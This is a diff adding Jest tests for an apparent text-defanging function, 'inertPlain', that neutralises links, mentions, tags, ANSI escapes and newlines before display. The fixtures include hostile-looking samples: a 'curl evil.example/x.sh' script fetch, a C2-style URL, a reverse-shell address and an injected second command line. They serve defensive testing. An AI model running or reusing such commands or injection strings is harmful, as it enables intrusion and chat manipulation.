@@ -1,5 +1,5 @@
 import { describe, expect, test } from '@jest/globals';
-import { inertBlock, inertCode, inertLine, inertMarkdown } from '../../src/domain/inert-text';
+import { inertBlock, inertCode, inertLine, inertMarkdown, inertPlain } from '../../src/domain/inert-text';
 
 describe('inertLine', () => {
   test.each([
@@ -107,5 +107,27 @@ describe('code', () => {
 
   test('a block cannot be closed from inside', () => {
     expect(inertBlock(['a', '```', '# b', 'c\n```'], 'sh')).toBe('````sh\na\n```\n# b\nc\\n```\n````');
+  });
+});
+
+describe('inertPlain', () => {
+  test.each([
+    [
+      'plain text stays',
+      'Reverse Shell on payments, 0.9.1, 203.0.113.7:4444',
+      'Reverse Shell on payments, 0.9.1, 203.0.113.7:4444',
+    ],
+    ['sentences stay', 'It ends. Nothing is changed.', 'It ends. Nothing is changed.'],
+    ['an address', 'see https://c2.example/approve', 'see hxxps://c2[.]example/approve'],
+    ['a host that a chat would link', 'curl evil.example/x.sh', 'curl evil[.]example/x[.]sh'],
+    ["Slack's link", '<https://evil.example|approve here>', '‹hxxps://evil[.]example|approve here›'],
+    ["Slack's mention of everybody", '<!channel> <@U1>', '‹!channel› ‹[@]U1›'],
+    ['a mention', '@everyone @here a@b.example', '[@]everyone [@]here a[@]b[.]example'],
+    ['a Markdown link', '[approve](/hooks/1)', '[approve] (/hooks/1)'],
+    ['a tag', '<img src=x>', '‹img src=x›'],
+    ['a second line', 'a\nfirebreak approve x', 'a\\nfirebreak approve x'],
+    ['an ANSI sequence', '\u001b[2Jgone', '\\u001b[2Jgone'],
+  ])('%s', (_name, text, expected) => {
+    expect(inertPlain(text)).toBe(expected);
   });
 });
